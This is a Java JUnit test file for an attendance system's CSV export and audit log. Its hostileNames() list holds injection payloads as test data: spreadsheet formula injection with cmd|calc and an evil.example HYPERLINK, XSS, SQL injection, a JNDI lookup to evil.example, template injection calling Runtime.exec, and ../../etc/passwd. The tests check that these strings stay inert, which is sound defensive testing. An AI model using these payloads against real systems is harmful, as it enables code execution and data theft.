package dev.rollcall.receiver.web;

import static dev.rollcall.receiver.testing.Answers.json;
import static dev.rollcall.receiver.testing.Answers.problem;
import static org.assertj.core.api.Assertions.assertThat;

import dev.rollcall.attendance.event.DeviceKey;
import dev.rollcall.attendance.event.Observation;
import dev.rollcall.receiver.store.Role;
import dev.rollcall.receiver.testing.Batches;
import dev.rollcall.receiver.testing.Csv;
import dev.rollcall.receiver.testing.Punch;
import dev.rollcall.receiver.testing.RunningReceiver;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;

/** Files for spreadsheets, and what hostile names do to them and to everything else that shows names (X15). */
class ExportTest {

    private static RunningReceiver receiver;
    private static String agent;
    private static String reader;
    private static String admin;

    @BeforeAll
    static void tokens() {
        receiver = RunningReceiver.onSqlite();
        agent = "Bearer " + receiver.token(Role.AGENT, "exporting agent");
        reader = "Bearer " + receiver.token(Role.READER, "exporting reader");
        admin = "Bearer " + receiver.token(Role.ADMIN, "exporting admin");
    }

    private static void store(Punch punch, List<Observation> observations) {
        HttpResponse<String> answer =
                receiver.post("/api/attendance/backup-sync", Batches.of(punch, observations), "Authorization", agent);
        assertThat(answer.statusCode()).isEqualTo(200);
    }

    private static void named(String key, String name) {
        receiver.store()
                .write(unit ->
                        unit.devices().add(DeviceKey.of(key), name, null, null, Instant.parse("2026-11-01T00:00:00Z")));
    }

    private static HttpResponse<String> export(String query) {
        return receiver.get("/api/attendance/events.csv" + query, "Authorization", reader);
    }

    private static List<Map<String, String>> rows(String query) {
        return Csv.rows(export(query).body());
    }

    @Test
    void export_hasEveryEvent_beyondOnePiece_inTheOrderOfTheFeed() {
        Punch punch = Punch.at("EXP000001");
        for (int batch = 0; batch < 5; batch++) {
            int first = batch * 500;
            store(
                    punch,
                    IntStream.range(first, first + 500)
                            .mapToObj(serial -> punch.serial((long) serial).observation())
                            .toList());
        }

        List<Map<String, String>> rows = rows("?device=EXP000001");

        assertThat(rows).hasSize(2500);
        assertThat(rows.get(0))
                .containsEntry("employeeNo", "00012")
                .containsEntry("time", "2026-11-23T09:00:00+05:30")
                .containsEntry("channels", "POLL");
        assertThat(rows.stream().map(row -> row.get("serialNo")).distinct()).hasSize(2500);
        assertThat(rows.subList(0, 500))
                .allSatisfy(
                        row -> assertThat(Integer.valueOf(row.get("serialNo"))).isLessThan(500));
    }

    @Test
    void export_takesTheFiltersOfTheFeed_andSaysWhatIsWrong() {
        Punch punch = Punch.at("EXP000002");
        named("EXP000008", "front-gate");
        named("EXP000001", "front-door");
        store(
                punch,
                List.of(
                        punch.observation(),
                        punch.serial(174L)
                                .person("7")
                                .time("2026-11-24T09:00:00")
                                .observation()));

        assertThat(rows("?device=EXP000002&employee=7")).hasSize(1);
        assertThat(rows("?device=EXP000002&to=2026-11-24T00:00:00%2B05:30")).hasSize(1);
        assertThat(rows("?device=EXP000002&employee=8")).isEmpty();
        assertThat(rows("?device=%20Front-Gate%20")).isEmpty();
        assertThat(problem(export("?device=EXP000003"))).isEqualTo("400 invalid-parameter");
        assertThat(problem(export("?device=exp000002"))).isEqualTo("400 invalid-parameter");
        assertThat(export("?device=front-door").body()).contains("devices have this name", "EXP000001, EXP000002");
        assertThat(problem(export("?from=yesterday"))).isEqualTo("400 invalid-parameter");
        assertThat(export("").headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"events.csv\"");
    }

    @Test
    void export_isEnteredInTheAuditTrail_withWhoAndWhat() {
        named("EXP000004", "audited");
        export("?device=EXP000004&employee=42");

        JsonNode page = json(receiver.get("/api/audit?limit=50", "Authorization", admin));
        assertThat(page.path("entries")
                        .valueStream()
                        .filter(entry -> entry.path("action").asString().equals("EXPORT"))
                        .map(entry -> entry.path("actor").asString() + " "
                                + entry.path("detail").asString()))
                .anySatisfy(entry -> assertThat(entry).contains("'exporting reader'", "device EXP000004, employee 42"));
    }

    @Test
    void audit_isPagedFromNewToOld() {
        IntStream.range(0, 7).forEach(each -> receiver.token(Role.READER, "paged " + each));
        long first = -1;
        String before = "";
        for (int page = 0; page < 3; page++) {
            JsonNode found = json(receiver.get("/api/audit?limit=2" + before, "Authorization", admin));
            List<Long> ids = found.path("entries")
                    .valueStream()
                    .map(entry -> entry.path("id").asLong())
                    .toList();
            assertThat(ids).hasSize(2);
            assertThat(ids.get(0)).isGreaterThan(ids.get(1));
            assertThat(first < 0 || first > ids.get(0)).isTrue();
            first = ids.get(1);
            before = "&before=" + found.path("next").asLong();
        }
        assertThat(json(receiver.get("/api/audit?before=1", "Authorization", admin))
                        .has("next"))
                .isFalse();
    }

    static List<String> hostileNames() {
        return List.of(
                "=HYPERLINK(\"http://evil.example\",\"x\")",
                "+1+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                " =1+1",
                "\t=1+1",
                "\r\n=1+1",
                "\uFF1D1+1",
                "\u00a0=1+1",
                "a\",\"=1+1",
                "a\n=1+1",
                "a;=1+1",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "'; drop table event; --",
                "' or '1'='1",
                "${jndi:ldap://evil.example/a}",
                "{{7*7}}",
                "[[${7*7}]]",
                "__${T(java.lang.Runtime).getRuntime().exec('x')}__::.x",
                "a\u0000b",
                "a\u202Eb",
                "../../etc/passwd",
                "%s%n%x",
                "\u001b[31mred");
    }

    @ParameterizedTest
    @MethodSource("hostileNames")
    void hostileName_isAText_everywhere(String name) {
        String device = "H" + String.format("%08X", name.hashCode());
        Punch punch = Punch.at(device).name(name);
        store(punch, List.of(punch.observation()));
        String kept = name.replace("\u0000", "\uFFFD");

        Map<String, String> row = rows("?device=" + device).get(0);
        String cell = row.get("name");
        assertThat(cell.startsWith("'") ? cell.substring(1) : cell).isIn(kept, kept.replaceFirst("^'", ""));
        assertThat(cell.strip()).doesNotMatch("(?s)^[\\s\\u00a0]*[=+\\-@\\uff1d\\t\\r].*");
        assertThat(row).containsEntry("device", device).containsEntry("kind", "UNSPECIFIED");

        JsonNode event = json(receiver.get("/api/attendance/events?device=" + device, "Authorization", reader))
                .path("events")
                .get(0);
        assertThat(event.path("name").asString()).isEqualTo(kept);

        String page = receiver.get("/").body();
        assertThat(page).doesNotContain("<script", "<img", "49</").contains("Latest punches");
        assertThat(StreamSupport.stream(Csv.rows(export("").body()).spliterator(), false)
                        .count())
                .isGreaterThanOrEqualTo(1);
    }

    @ParameterizedTest
    @MethodSource("hostileNames")
    void hostileParameters_findNothing_andBreakNothing(String text) {
        String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);

        HttpResponse<String> found =
                receiver.get("/api/attendance/events?employee=" + encoded, "Authorization", reader);
        assertThat(found.statusCode()).isIn(200, 400);
        assertThat(found.statusCode() == 400 || json(found).path("events").isEmpty())
                .isTrue();
        assertThat(receiver.get("/api/attendance/events?device=" + encoded, "Authorization", reader)
                        .statusCode())
                .isIn(200, 400);
        assertThat(receiver.get("/api/devices", "Authorization", reader).statusCode())
                .isEqualTo(200);
    }
}
